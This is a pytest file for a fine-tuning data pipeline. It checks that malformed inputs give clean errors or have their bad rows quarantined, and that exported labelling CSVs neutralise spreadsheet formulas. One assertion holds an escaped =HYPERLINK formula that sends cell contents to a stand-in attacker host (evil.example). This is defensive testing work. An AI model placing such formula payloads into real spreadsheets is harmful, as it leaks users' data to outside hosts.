"""The bad-input corpus (tests/bad_inputs/cases.yaml): every malformed file, run the way a user runs it.

Each case ends one of two ways: `finetune` exits 1 with an `error:` message that names the file,
the line or row and the problem (never a traceback), or the bad rows are quarantined with their
reasons and every row read is accounted for (clean + quarantined + exact duplicates dropped).
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
import yaml

from pipeline.active_learning import read_pool, write_queue
from pipeline.cli import main
from pipeline.paths import TaskPaths
from pipeline.readers import FORMULA_STARTS, read_source
from pipeline.errors import DataError
from pipeline.records import load_json, load_records
from tests.conftest import tiny_params, write_params
from tests.ner_data import ner_params
from tests.test_translation import translation_section

CORPUS = Path(__file__).parent / "bad_inputs"
CASES = yaml.safe_load((CORPUS / "cases.yaml").read_text(encoding="utf-8"))
UNUSED_MODEL = Path("unused")  # the data stages never load the model


def task_params(task: str, source: str, fmt: str, settings: dict) -> dict:
    """params.yaml for one task reading `source`, lenient enough that only the case's own problem shows."""
    if task == "sentiment":
        params = tiny_params(UNUSED_MODEL, source)
        params["sentiment"]["validate"].update(min_rows_per_class=0, max_reject_fraction=1.0)
    elif task == "ner":
        params = ner_params(UNUSED_MODEL, source, validate={"min_mentions_per_type": 0, "max_reject_fraction": 1.0})
    else:
        section = translation_section(UNUSED_MODEL, source, validate={"min_pairs": 0, "max_reject_fraction": 1.0})
        params = {"tasks": ["translation"], "tracking": {"experiment": "test"}, "translation": section}
    section = params[task]
    section["data"]["format"] = fmt
    for name, values in settings.items():
        section[name] = {**section[name], **values}
    return params


def one_mb_line(path: Path) -> None:
    """A csv whose row on line 3 is a single 1 MB text (generated: too big to commit)."""
    path.write_text(
        "text,label\nOperating profit rose to EUR 13.1 mn,positive\n" + "profit " * 150_000 + ",neutral\n"
        "The company is based in Espoo,neutral\n",
        encoding="utf-8",
    )


def case_files(case: dict) -> list[Path]:
    """The corpus files of a case: one file, or both sides of a parallel pair."""
    path = CORPUS / case["file"]
    if case.get("format") == "parallel":
        return [path.with_name(f"{path.name}.{language}") for language in ("de", "en")]
    return [path]


def install(case: dict, workspace: Path) -> str:
    """Copy (or generate) the case's input into the workspace; returns its path as the user names it."""
    if case["entry"] in ("params", "predict", "pool"):
        shutil.copy(CORPUS / case["file"], workspace / Path(case["file"]).name)
        return Path(case["file"]).name
    data = workspace / "data"
    data.mkdir()
    if "generate" in case:
        source = f"data/{case['generate']}.csv"
        one_mb_line(workspace / source)
    else:
        source = f"data/{Path(case['file']).name}"
        for path in case_files(case):
            shutil.copy(path, data / path.name)
    write_params(workspace, task_params(case["task"], source, case["format"], case.get("settings", {})))
    return source


def run_entry(case: dict, shown: str, capsys) -> tuple[int, str]:
    """Run the case through its entry point; (exit code, everything printed)."""
    entry = case["entry"]
    if entry == "pool":  # `finetune select` reads the pool only after loading a champion, so call its reader
        try:
            read_pool(shown)
        except DataError as exc:
            return exc.exit_code, f"error: {exc}"
        return 0, ""
    commands = {
        "params": [["--params", shown, "stage", "collect"]],
        "predict": [["predict", "--file", shown]],
        "collect": [["stage", "collect", "--task", case.get("task", "")]],
        "validate": [["stage", stage, "--task", case.get("task", "")] for stage in ("collect", "validate")],
    }[entry]
    printed = ""
    for argv in commands:
        code = main(argv)
        out, err = capsys.readouterr()
        printed += out + err
        if code:
            return code, printed
    return 0, printed


def check_accounted(case: dict) -> None:
    """The quarantine holds the expected rows with their reasons, and no row read went missing."""
    paths = TaskPaths(case["task"])
    provenance = load_json(paths.provenance)
    clean, quarantined = load_records(paths.clean), load_records(paths.quarantine)
    assert len(clean) + len(quarantined) + provenance["exact_duplicates_dropped"] == provenance["rows_read"]
    reasons = {row["row"]: row["reason"] for row in quarantined}
    expected = case.get("quarantined", {})
    assert sorted(reasons) == sorted(expected), reasons
    for row, reason in expected.items():
        assert reason in reasons[row]
    if "clean" in case:
        assert len(clean) == case["clean"]
    texts = {row.get("text") for row in clean}
    for text in case.get("kept", []):
        assert text in texts  # verbatim: never evaluated, never altered


@pytest.mark.parametrize("case", CASES, ids=[case["id"] for case in CASES])
def test_bad_input(case, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    shown = install(case, tmp_path)
    code, printed = run_entry(case, shown, capsys)
    assert "Traceback" not in printed
    if "message" in case:
        assert code == case.get("exit", 2 if case["entry"] == "params" else 3), printed
        error = printed[printed.index("error: "):]
        assert shown in error, error  # names the file
        assert case["message"] in error, error
    else:
        assert code == 0, printed
    if case["outcome"] != "error":
        check_accounted(case)


def test_the_corpus_has_enough_cases_and_no_file_without_one():
    assert len(CASES) >= 22 and len({case["id"] for case in CASES}) == len(CASES)
    used = {path for case in CASES if "file" in case for path in case_files(case)}
    assert {p for p in CORPUS.rglob("*") if p.is_file() and p.name not in ("cases.yaml", "README.md")} == used


def test_labelling_queue_neutralises_formulas(tmp_path):
    """The queue csv opens in a spreadsheet: no cell may start a formula, yet reading it back restores the texts."""
    texts = [row["text"] for row in read_source(str(CORPUS / "sentiment" / "formula_injection.csv"), "csv")]
    rows = [
        {"rank": i + 1, "text": text, "predicted_label": "neutral", "confidence": 0.5, "uncertainty": 0.5, "strategy": "entropy"}
        for i, text in enumerate(texts)
    ]
    path = write_queue(rows, "sentiment", tmp_path)
    with path.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")" in cells
    assert [row["text"] for row in read_source(str(path), "csv")] == texts  # labelled and dropped back in: unchanged
